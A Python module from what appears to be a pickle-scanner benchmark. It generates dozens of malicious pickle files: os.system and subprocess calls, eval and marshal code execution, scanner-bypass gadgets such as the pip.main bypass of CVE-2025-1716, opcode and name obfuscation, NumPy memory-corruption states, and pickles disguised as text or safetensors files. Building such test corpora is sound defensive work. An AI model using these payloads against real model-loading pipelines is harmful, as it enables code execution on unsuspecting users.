"""Malicious bare pickles: dangerous callables, name tricks, opcode tricks, broken streams."""

from __future__ import annotations

import marshal
import struct
from pathlib import Path

from benchmarks.corpus import technique
from benchmarks.corpus.pickleasm import (
    BUILD,
    EMPTY_DICT,
    EMPTY_TUPLE,
    MARK,
    MEMOIZE,
    NEWOBJ,
    POP,
    REDUCE,
    STACK_GLOBAL,
    STOP,
    TUPLE,
    TUPLE1,
    TUPLE2,
    binbytes,
    binint,
    call,
    code_call,
    glob,
    marker,
    program,
    proto,
    python_code,
    sglob,
    shell,
    shell_call,
    string0,
    uni,
)

DANGEROUS = "PICKLE-DANGEROUS-GLOBAL"
UNKNOWN = "PICKLE-UNKNOWN-GLOBAL"
UNRESOLVED = "PICKLE-UNRESOLVED-GLOBAL"

# --- Process execution --------------------------------------------------------------------


@technique("os-system-protocol0", family="pickle", filename="model.pkl")
def os_system_protocol0(m: Path) -> bytes:
    """os.system through text opcodes only (protocol 0)."""
    return b"cos\nsystem\n(" + string0(shell(m)) + b"tR."


@technique("os-system-protocol2", family="pickle", filename="model.pkl")
def os_system_protocol2(m: Path) -> bytes:
    """os.system via GLOBAL + REDUCE."""
    return shell_call("os", "system", m)


@technique("posix-system-stack-global", family="pickle", filename="model.pkl")
def posix_system(m: Path) -> bytes:
    """posix.system (what os.system pickles as on Linux) via STACK_GLOBAL."""
    return program(call(sglob("posix", "system"), uni(shell(m))), protocol=4)


@technique("subprocess-popen-newobj", family="pickle", filename="model.pkl")
def subprocess_newobj(m: Path) -> bytes:
    """subprocess.Popen built with NEWOBJ."""
    args = MARK + MARK + uni("sh") + uni("-c") + uni(shell(m)) + b"l" + TUPLE
    return program(sglob("subprocess", "Popen") + args + NEWOBJ, protocol=4)


@technique("subprocess-check-output", family="pickle", filename="model.pkl")
def subprocess_check_output(m: Path) -> bytes:
    """subprocess.check_output with a shell list."""
    return program(call(glob("subprocess", "getoutput"), uni(shell(m))))


@technique("pty-spawn", family="pickle", filename="model.pkl")
def pty_spawn(m: Path) -> bytes:
    """pty.spawn."""
    return shell_call("pty", "spawn", m)


@technique("os-popen-inst", family="pickle", filename="model.pkl")
def os_popen_inst(m: Path) -> bytes:
    """INST opcode: import and call in one text opcode (protocol 0)."""
    return b"(" + string0(shell(m)) + b"ios\npopen\n."


@technique("os-system-obj", family="pickle", filename="model.pkl")
def os_system_obj(m: Path) -> bytes:
    """OBJ opcode: MARK, class, args, OBJ."""
    return b"(" + glob("os", "system") + string0(shell(m)) + b"o."


@technique("os-execv-newobj-ex", family="pickle", filename="model.pkl")
def os_newobj_ex(m: Path) -> bytes:
    """NEWOBJ_EX with args and kwargs."""
    body = sglob("os", "system") + uni(shell(m)) + TUPLE1 + EMPTY_DICT + b"\x92"
    return program(body, protocol=4)


# --- Code evaluation ----------------------------------------------------------------------


@technique("builtins-eval", family="pickle", filename="model.pkl")
def builtins_eval(m: Path) -> bytes:
    """builtins.eval of Python source."""
    return code_call("builtins", "eval", m)


@technique("builtins-exec-python2-name", family="pickle", filename="model.pkl")
def builtins_exec_py2(m: Path) -> bytes:
    """__builtin__.exec: the Python 2 module name the unpickler maps to builtins."""
    return code_call("__builtin__", "exec", m)


@technique("builtins-compile-exec", family="pickle", filename="model.pkl")
def builtins_compile(m: Path) -> bytes:
    """exec(compile(src, '<x>', 'exec'))."""
    compiled = call(glob("builtins", "compile"), uni(python_code(m)), uni("<x>"), uni("exec"))
    return program(call(glob("builtins", "exec"), compiled))


@technique("builtins-import-getattr", family="pickle", filename="model.pkl")
def import_getattr(m: Path) -> bytes:
    """getattr(__import__('os'), 'system')(cmd): reflection instead of a named import."""
    mod = call(glob("builtins", "__import__"), uni("os"))
    func = call(glob("builtins", "getattr"), mod, uni("system"))
    return program(call(func, uni(shell(m))))


@technique("getattr-on-allowlisted", family="pickle", filename="model.pkl")
def getattr_allowlisted(m: Path) -> bytes:
    """builtins.getattr reaching through an allowlisted object (collections.OrderedDict)."""
    func = call(glob("builtins", "getattr"), glob("collections", "OrderedDict"), uni("fromkeys"))
    return program(call(func, uni(shell(m))))


@technique("code-interactive-interpreter", family="pickle", filename="model.pkl")
def code_interp(m: Path) -> bytes:
    """code.InteractiveInterpreter().runsource via a dotted STACK_GLOBAL."""
    return program(call(sglob("code", "interact"), uni(python_code(m))), protocol=4)


@technique("marshal-function-type", family="pickle", filename="model.pkl")
def marshal_function(m: Path) -> bytes:
    """types.FunctionType(marshal.loads(bytecode), {})(): code without a named callable."""
    code = compile(python_code(m), "<x>", "exec")
    loaded = call(glob("marshal", "loads"), binbytes(marshal.dumps(code)))
    func = call(glob("types", "FunctionType"), loaded, EMPTY_DICT)
    return program(call(func), protocol=3)


# --- Gadgets denylists forget ---------------------------------------------------------------


@technique("pip-main", family="pickle", filename="model.pkl", advisory="CVE-2025-1716")
def pip_main(m: Path) -> bytes:
    """pip.main(['install', ...]): the picklescan bypass of CVE-2025-1716."""
    args = MARK + uni("--version") + b"l"
    return program(call(glob("pip", "main"), args))


@technique("runpy-run-path", family="pickle", filename="model.pkl")
def runpy_run_path(m: Path) -> bytes:
    """runpy._run_code with attacker source."""
    return code_call("runpy", "run_path", m)


@technique("pkgutil-resolve-name", family="pickle", filename="model.pkl")
def pkgutil_resolve(m: Path) -> bytes:
    """pkgutil.resolve_name('os:system') returns os.system without importing it by name."""
    func = call(glob("pkgutil", "resolve_name"), uni("os:system"))
    return program(call(func, uni(shell(m))))


@technique("timeit-timeit", family="pickle", filename="model.pkl")
def timeit_timeit(m: Path) -> bytes:
    """timeit.timeit(stmt) runs its statement."""
    return program(call(glob("timeit", "timeit"), uni(python_code(m)), MARK + b"" + TUPLE))


@technique("cprofile-run", family="pickle", filename="model.pkl")
def cprofile_run(m: Path) -> bytes:
    """cProfile.run(stmt) executes its statement."""
    return code_call("cProfile", "run", m)


@technique("pydoc-pipepager", family="pickle", filename="model.pkl")
def pydoc_pipepager(m: Path) -> bytes:
    """pydoc.pipepager(text, cmd) runs a shell command."""
    return program(call(glob("pydoc", "pipepager"), uni("x"), uni(shell(m))))


@technique("uuid-get-command-stdout", family="pickle", filename="model.pkl")
def uuid_command(m: Path) -> bytes:
    """uuid._get_command_stdout runs a program."""
    return program(call(glob("uuid", "_get_command_stdout"), uni("touch"), uni(str(marker(m)))))


@technique("torch-collect-env-run", family="pickle", filename="model.pkl")
def torch_collect_env(m: Path) -> bytes:
    """torch.utils.collect_env.run runs a shell command."""
    return shell_call("torch.utils.collect_env", "run", m)


@technique("numpy-f2py-myeval", family="pickle", filename="model.pkl")
def numpy_f2py(m: Path) -> bytes:
    """numpy.f2py.crackfortran.myeval evaluates an expression."""
    return code_call("numpy.f2py.crackfortran", "myeval", m)


@technique("logging-filehandler", family="pickle", filename="model.pkl")
def logging_filehandler(m: Path) -> bytes:
    """logging.FileHandler(path) creates a file."""
    return program(call(glob("logging", "FileHandler"), uni(str(marker(m)))))


@technique("functools-partial", family="pickle", filename="model.pkl")
def functools_partial(m: Path) -> bytes:
    """functools.partial wrapping an unknown callable."""
    part = call(glob("functools", "partial"), glob("shutil", "copyfile"), uni("/dev/null"))
    return program(call(part, uni(str(marker(m)))))


@technique("operator-methodcaller", family="pickle", filename="model.pkl")
def operator_methodcaller(m: Path) -> bytes:
    """operator.methodcaller('system', cmd)(os-like object)."""
    caller = call(glob("operator", "methodcaller"), uni("system"), uni(shell(m)))
    mod = call(glob("importlib", "import_module"), uni("os"))
    return program(call(caller, mod))


@technique("operator-attrgetter", family="pickle", filename="model.pkl")
def operator_attrgetter(m: Path) -> bytes:
    """operator.attrgetter('system') applied to an imported module."""
    getter = call(glob("operator", "attrgetter"), uni("system"))
    mod = call(glob("builtins", "__import__"), uni("os"))
    return program(call(call(getter, mod), uni(shell(m))))


@technique("webbrowser-open", family="pickle", filename="model.pkl")
def webbrowser_open(m: Path) -> bytes:
    """webbrowser.open of a file URL."""
    return program(call(glob("webbrowser", "open"), uni(f"file://{marker(m)}")))


@technique("ctypes-cdll", family="pickle", filename="model.pkl")
def ctypes_cdll(m: Path) -> bytes:
    """ctypes.CDLL loads a native library."""
    return program(call(glob("ctypes", "CDLL"), uni(str(marker(m)))))


@technique("builtins-open-write", family="pickle", filename="model.pkl")
def builtins_open(m: Path) -> bytes:
    """builtins.open(path, 'w') creates a file."""
    return program(call(glob("builtins", "open"), uni(str(marker(m))), uni("w")))


@technique("codecs-open-write", family="pickle", filename="model.pkl")
def codecs_open(m: Path) -> bytes:
    """codecs.open(path, 'w') creates a file without builtins.open."""
    return program(call(glob("codecs", "open"), uni(str(marker(m))), uni("w")))


@technique("shutil-copyfile", family="pickle", filename="model.pkl")
def shutil_copy(m: Path) -> bytes:
    """shutil.copyfile writes a file."""
    return program(call(glob("shutil", "copyfile"), uni("/dev/null"), uni(str(marker(m)))))


@technique("importlib-import-module", family="pickle", filename="model.pkl")
def importlib_import(m: Path) -> bytes:
    """importlib.import_module then getattr."""
    mod = call(glob("importlib", "import_module"), uni("os"))
    return program(call(call(glob("builtins", "getattr"), mod, uni("system")), uni(shell(m))))


@technique("socket-connection", family="pickle", filename="model.pkl")
def socket_connect(m: Path) -> bytes:
    """socket.create_connection: network access from a pickle."""
    addr = MARK + uni("127.0.0.1") + b"K\x09" + TUPLE
    return program(call(glob("socket", "create_connection"), addr))


@technique("urllib-urlopen", family="pickle", filename="model.pkl")
def urllib_urlopen(m: Path) -> bytes:
    """urllib.request.urlopen via a dotted STACK_GLOBAL name."""
    return program(call(sglob("urllib", "request.urlopen"), uni(f"file://{m}")), protocol=4)


@technique("asyncio-subprocess-shell", family="pickle", filename="model.pkl")
def asyncio_shell(m: Path) -> bytes:
    """asyncio.subprocess.create_subprocess_shell."""
    return shell_call("asyncio.subprocess", "create_subprocess_shell", m)


@technique("torch-hub-load", family="pickle", filename="model.pkl")
def torch_hub(m: Path) -> bytes:
    """torch.hub.load runs a repository's hubconf.py."""
    return program(call(glob("torch.hub", "load"), uni(str(m)), uni("x"), uni("local")))


@technique("torch-jit-load", family="pickle", filename="model.pkl")
def torch_jit(m: Path) -> bytes:
    """torch.jit.load loads TorchScript from a path."""
    return program(call(glob("torch.jit", "load"), uni(str(marker(m)))))


@technique("numpy-load-allow-pickle", family="pickle", filename="model.pkl")
def numpy_load(m: Path) -> bytes:
    """numpy.load(path, allow_pickle=True): a second, unscanned pickle."""
    return program(call(glob("numpy", "load"), uni(str(marker(m))), b"\x88"))


# --- Nested loading ---------------------------------------------------------------------------


def _inner(m: Path) -> bytes:
    return shell_call("os", "system", m)


@technique("nested-pickle-loads", family="pickle", filename="model.pkl")
def nested_pickle_loads(m: Path) -> bytes:
    """pickle.loads of an embedded pickle: the outer stream imports only pickle."""
    return program(call(glob("pickle", "loads"), binbytes(_inner(m))), protocol=3)


@technique("nested-torch-load-pickle-module", family="pickle", filename="model.pkl")
def nested_torch_load(m: Path) -> bytes:
    """torch.load with its own pickle_module: turns weights_only off for the inner load."""
    stream = call(glob("io", "BytesIO"), binbytes(_inner(m)))
    pickle_module = call(glob("builtins", "__import__"), uni("pickle"))
    kwargs = EMPTY_DICT + uni("pickle_module") + pickle_module + b"s"
    kwargs += uni("weights_only") + b"\x89" + b"s"
    partial = call(glob("functools", "partial"), glob("torch", "load"))
    state = MARK + glob("torch", "load") + stream + TUPLE1 + kwargs + b"N" + TUPLE + BUILD
    return program(partial + state + EMPTY_TUPLE + REDUCE, protocol=3)


@technique("nested-joblib-load", family="pickle", filename="model.pkl")
def nested_joblib(m: Path) -> bytes:
    """joblib.load of another file."""
    return program(call(glob("joblib", "load"), uni(str(marker(m)))))


# --- Name tricks --------------------------------------------------------------------------------


@technique("dotted-name-shlex-os-system", family="pickle", filename="model.pkl")
def dotted_shlex(m: Path) -> bytes:
    """STACK_GLOBAL module `shlex`, name `os.system`: attribute traversal."""
    return program(call(sglob("shlex", "os.system"), uni(shell(m))), protocol=4)


@technique("dotted-name-through-allowlist", family="pickle", filename="model.pkl")
def dotted_allowlisted(m: Path) -> bytes:
    """An allowlisted module with a dunder path: `collections` + `OrderedDict.__init__...`."""
    name = "OrderedDict.__init__.__globals__.sys.modules.os.system"
    return program(call(sglob("collections", name), uni(shell(m))), protocol=4)


@technique("stack-global-from-memo", family="pickle", filename="model.pkl")
def memo_names(m: Path) -> bytes:
    """Module and name strings memoised, popped, then fetched back for STACK_GLOBAL."""
    body = uni("os") + MEMOIZE + uni("system") + MEMOIZE + POP + POP
    body += b"h\x00h\x01" + STACK_GLOBAL + uni(shell(m)) + TUPLE1 + REDUCE
    return program(body, protocol=4)


@technique(
    "stack-global-from-call-result", family="pickle", filename="model.pkl", expect=UNRESOLVED
)
def name_from_call(m: Path) -> bytes:
    """The module name is the result of an allowlisted call (builtins.str)."""
    module = call(glob("builtins", "str"), uni("os"))
    body = module + uni("system") + STACK_GLOBAL + uni(shell(m)) + TUPLE1 + REDUCE
    return program(body, protocol=4)


@technique(
    "stack-global-concatenation",
    family="pickle",
    filename="model.pkl",
    expect=(UNRESOLVED, UNKNOWN, DANGEROUS),
)
def name_concat(m: Path) -> bytes:
    """The module name is built by concatenating two strings (operator.add)."""
    module = call(glob("operator", "add"), uni("o"), uni("s"))
    body = module + uni("system") + STACK_GLOBAL + uni(shell(m)) + TUPLE1 + REDUCE
    return program(body, protocol=4)


@technique("memo-put-get-text", family="pickle", filename="model.pkl")
def memo_text(m: Path) -> bytes:
    """Protocol 0 PUT/GET around a GLOBAL that is called later."""
    return b"cos\nsystem\np0\n0g0\n(" + string0(shell(m)) + b"tR."


@technique("proto-changes-mid-stream", family="pickle", filename="model.pkl")
def proto_change(m: Path) -> bytes:
    """PROTO 2 header, then PROTO 4 before a STACK_GLOBAL."""
    body = EMPTY_DICT + POP + proto(4) + sglob("os", "system") + uni(shell(m)) + TUPLE1 + REDUCE
    return program(body, protocol=2)


@technique("frame-boundaries", family="pickle", filename="model.pkl")
def frames(m: Path) -> bytes:
    """Protocol 5 FRAMEs, the import in a second frame after a large first one."""
    first = uni("x" * 300) + POP
    second = sglob("os", "system") + uni(shell(m)) + TUPLE1 + REDUCE + STOP

    def frame(data: bytes) -> bytes:
        return b"\x95" + struct.pack("<Q", len(data)) + data

    return proto(5) + frame(first) + frame(second)


@technique("unknown-third-party-callable", family="pickle", filename="model.pkl", expect=UNKNOWN)
def unknown_callable(m: Path) -> bytes:
    """A callable from a package nobody allowlisted: named, high severity."""
    return shell_call("evilpkg.tools", "run", m)


@technique("build-setstate-unknown-class", family="pickle", filename="model.pkl", expect=UNKNOWN)
def build_setstate(m: Path) -> bytes:
    """An object of an unknown class restored with BUILD (its __setstate__ runs)."""
    obj = glob("evilpkg.model", "Loader") + EMPTY_TUPLE + NEWOBJ
    state = EMPTY_DICT + uni("cmd") + uni(shell(m)) + b"s"
    return program(obj + state + BUILD)


@technique(
    "ext-opcode-copyreg-registry",
    family="pickle",
    filename="model.pkl",
    expect="PICKLE-EXTENSION-CODE",
)
def ext_opcode(m: Path) -> bytes:
    """EXT1: an import through the copyreg extension registry, never named in the stream."""
    return program(b"\x82\x07" + uni(shell(m)) + TUPLE1 + REDUCE)


@technique("tuple2-args-popen", family="pickle", filename="model.pkl")
def tuple2(m: Path) -> bytes:
    """subprocess.run with TUPLE2 arguments."""
    args = MARK + uni("sh") + uni("-c") + uni(shell(m)) + b"l" + b"\x88" + TUPLE2
    return program(glob("subprocess", "run") + args + REDUCE)


# --- Attributes the pickle gives an object, then makes the unpickler call ------------------

STATE_CALL = "PICKLE-STATE-CALL"


def _load_from_bytes_attribute(name: str) -> bytes:
    """A state dict {name: torch.storage._load_from_bytes}: only allowlisted imports."""
    return EMPTY_DICT + uni(name) + glob("torch.storage", "_load_from_bytes") + b"s"


@technique("second-build-calls-setstate", family="pickle", filename="model.pkl", expect=STATE_CALL)
def second_build(m: Path) -> bytes:
    """SimpleNamespace(); BUILD {__setstate__: _load_from_bytes}; BUILD payload: the second
    BUILD calls the instance's own __setstate__, a nested torch.load of the payload."""
    first = glob("types", "SimpleNamespace") + EMPTY_TUPLE + REDUCE
    first += _load_from_bytes_attribute("__setstate__") + BUILD
    return program(first + binbytes(shell_call("os", "system", m)) + BUILD)


@technique("appends-calls-append", family="pickle", filename="model.pkl", expect=STATE_CALL)
def appends_call(m: Path) -> bytes:
    """argparse.Namespace with an `append` attribute, then APPENDS: append(payload)."""
    first = glob("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ
    first += _load_from_bytes_attribute("append") + BUILD
    return program(first + MARK + binbytes(shell_call("os", "system", m)) + b"e")


@technique("attribute-dict-build", family="pickle", filename="model.pkl", expect=STATE_CALL)
def attribute_dict_build(m: Path) -> bytes:
    """Lightning's AttributeDict answers attributes from its items: an item `__setstate__`
    is what BUILD calls, with the payload."""
    built = glob("lightning.pytorch.utilities.parsing", "AttributeDict") + EMPTY_TUPLE + NEWOBJ
    built += MARK + uni("__setstate__") + glob("torch.storage", "_load_from_bytes") + b"u"
    return program(built + binbytes(shell_call("os", "system", m)) + BUILD)


# --- NumPy dtype states NumPy never writes (no code runs: NumPy reads bytes as pointers) ------

NUMPY_MEMORY = "PICKLE-NUMPY-MEMORY"


def _dtype(name: str, state: bytes | None = None) -> bytes:
    """numpy.dtype(name, False, True), then BUILD of `state` (opcodes) when given."""
    made = glob("numpy", "dtype") + uni(name) + b"\x89\x88\x87" + REDUCE
    return made if state is None else made + state + BUILD


def _dtype_state(order: str, names: bytes, fields: bytes, elsize: int, flags: int) -> bytes:
    return MARK + binint(3) + uni(order) + b"N" + names + fields + binint(elsize) + binint(
        1 if elsize > 0 else -1
    ) + binint(flags) + TUPLE  # fmt: skip


def _struct_i8_and_object(flags: int) -> bytes:
    """A 16-byte struct: an int64 at 0, an object at 8, with the given flags."""
    i8 = _dtype("i8", MARK + binint(3) + uni("<") + b"NNN" + binint(-1) * 2 + binint(0) + TUPLE)
    o8 = _dtype("O8", MARK + binint(3) + uni("|") + b"NNN" + binint(-1) * 2 + binint(63) + TUPLE)
    names = MARK + uni("a") + uni("b") + TUPLE
    fields = EMPTY_DICT + MARK + uni("a") + MARK + i8 + binint(0) + TUPLE
    fields += uni("b") + MARK + o8 + binint(8) + TUPLE + b"u"
    return _dtype("V16", _dtype_state("|", names, fields, 16, flags))


@technique(
    "numpy-dtype-object-flags-cleared", family="pickle", filename="model.pkl", expect=NUMPY_MEMORY
)
def numpy_dtype_lie(m: Path) -> bytes:
    """A structured dtype with an object field whose state clears the object flags, then
    numpy.core.numeric._frombuffer of file bytes: NumPy takes them as PyObject pointers."""
    raw = struct.pack("<qQ", 7, 0x4141414141414141)
    args = MARK + binbytes(raw) + _struct_i8_and_object(16) + MARK + binint(1) + TUPLE + uni("C")
    return program(glob("numpy.core.numeric", "_frombuffer") + args + TUPLE + REDUCE)


@technique(
    "numpy-dtype-field-past-item", family="pickle", filename="model.pkl", expect=NUMPY_MEMORY
)
def numpy_dtype_past_item(m: Path) -> bytes:
    """A 8-byte struct whose int64 field sits at offset 4: every read runs past the item."""
    i8 = _dtype("i8", MARK + binint(3) + uni("<") + b"NNN" + binint(-1) * 2 + binint(0) + TUPLE)
    names = MARK + uni("a") + TUPLE
    fields = EMPTY_DICT + uni("a") + MARK + i8 + binint(4) + TUPLE + b"s"
    dtype = _dtype("V8", _dtype_state("|", names, fields, 8, 16))
    args = MARK + binbytes(bytes(8)) + dtype + MARK + binint(1) + TUPLE + uni("C")
    return program(glob("numpy.core.numeric", "_frombuffer") + args + TUPLE + REDUCE)


@technique("numpy-ndarray-over-bytes", family="pickle", filename="model.pkl", expect=NUMPY_MEMORY)
def numpy_ndarray_over_bytes(m: Path) -> bytes:
    """numpy.ndarray((1,), dtype('O'), buffer): an object array over the file's own bytes
    (numpy.frombuffer refuses this; the constructor does not): NumPy follows the pointers."""
    o8 = _dtype("O8", MARK + binint(3) + uni("|") + b"NNN" + binint(-1) * 2 + binint(63) + TUPLE)
    shape = MARK + binint(1) + TUPLE
    return program(call(glob("numpy", "ndarray"), shape, o8, binbytes(b"A" * 8)))


@technique(
    "numpy-array-interface-address", family="pickle", filename="model.pkl", expect=STATE_CALL
)
def numpy_array_interface(m: Path) -> bytes:
    """A masked array whose fill_value is a SimpleNamespace given __array_interface__ by its
    BUILD: pickle.load makes NumPy read memory at the address it names (0x41414141)."""
    interface = EMPTY_DICT + MARK + uni("shape") + MARK + binint(1) + TUPLE + uni("typestr")
    interface += uni("<f8") + uni("data") + MARK + binint(0x41414141) + b"\x88" + TUPLE
    interface += uni("version") + binint(3) + b"u"
    namespace = glob("types", "SimpleNamespace") + EMPTY_TUPLE + REDUCE
    namespace += EMPTY_DICT + uni("__array_interface__") + interface + b"s" + BUILD
    made = call(
        glob("numpy.ma.core", "_mareconstruct"),
        glob("numpy.ma", "MaskedArray"),
        glob("numpy", "ndarray"),
        MARK + binint(0) + TUPLE,
        binbytes(b"b"),
    )
    f8 = _dtype("f8", MARK + binint(3) + uni("<") + b"NNN" + binint(-1) * 2 + binint(0) + TUPLE)
    state = MARK + binint(1) + MARK + binint(1) + TUPLE + f8 + b"\x89" + binbytes(bytes(8))
    state += binbytes(b"\x00") + namespace + TUPLE
    return program(made + state + BUILD)


# --- Broken streams ---------------------------------------------------------------------------


@technique(
    "nullifai-payload-then-broken",
    family="pickle",
    filename="model.pkl",
    advisory="nullifAI (ReversingLabs, 2025)",
)
def nullifai(m: Path) -> bytes:
    """The payload runs, then the stream breaks: the unpickler fails only after the call."""
    return shell_call("os", "system", m)[:-1] + b"\xff\xfe\xfd"


@technique("payload-then-truncated", family="pickle", filename="model.pkl")
def truncated(m: Path) -> bytes:
    """Payload, then a BINUNICODE whose length runs past the end of the file."""
    return shell_call("os", "system", m)[:-1] + b"X\xff\xff\x00\x00abc"


@technique("payload-then-stack-underflow", family="pickle", filename="model.pkl")
def underflow(m: Path) -> bytes:
    """Payload, then an opcode that pops an empty stack."""
    return shell_call("os", "system", m)[:-1] + POP + POP + POP + STOP


@technique("benign-then-concatenated-payload", family="pickle", filename="model.pkl")
def concatenated(m: Path) -> bytes:
    """A harmless pickle, then a second one (protocol 0) that a looping loader runs."""
    first = program(EMPTY_DICT, protocol=2)
    return first + b"cos\nsystem\n(" + string0(shell(m)) + b"tR."


@technique("benign-then-concatenated-payload-p4", family="pickle", filename="model.pkl")
def concatenated_p4(m: Path) -> bytes:
    """Two protocol 4 pickles back to back; only the second is hostile."""
    return program(EMPTY_DICT, protocol=4) + program(
        call(sglob("os", "system"), uni(shell(m))), protocol=4
    )


@technique("stack-depth-bomb", family="pickle", filename="model.pkl", expect="PICKLE-MALFORMED")
def stack_bomb(m: Path) -> bytes:
    """Millions of MARKs: a stack no scanner should track without a bound."""
    return proto(2) + MARK * (1 << 21) + STOP


@technique("size-bomb-binbytes8", family="pickle", filename="model.pkl", expect="PICKLE-MALFORMED")
def size_bomb(m: Path) -> bytes:
    """BINBYTES8 announcing 2**62 bytes."""
    return (
        proto(4)
        + EMPTY_DICT
        + POP
        + EMPTY_DICT
        + POP
        + b"\x8e"
        + struct.pack("<Q", 1 << 62)
        + b"x" * 16
        + STOP
    )


@technique("unknown-opcode", family="pickle", filename="model.pkl", expect="PICKLE-MALFORMED")
def unknown_opcode(m: Path) -> bytes:
    """An opcode byte no protocol defines, after a harmless start."""
    return proto(2) + EMPTY_DICT + b"\xfa" + STOP


@technique(
    "disguised-as-text-file", family="pickle", filename="notes.txt", advisory="CVE-2025-1889"
)
def disguised_txt(m: Path) -> bytes:
    """A pickle named like a text file: formats come from content, not extensions."""
    return shell_call("os", "system", m)


@technique("disguised-as-safetensors", family="pickle", filename="model.safetensors")
def disguised_safetensors(m: Path) -> bytes:
    """A pickle named model.safetensors."""
    return shell_call("os", "system", m, protocol=4)


_ = (STOP, python_code)
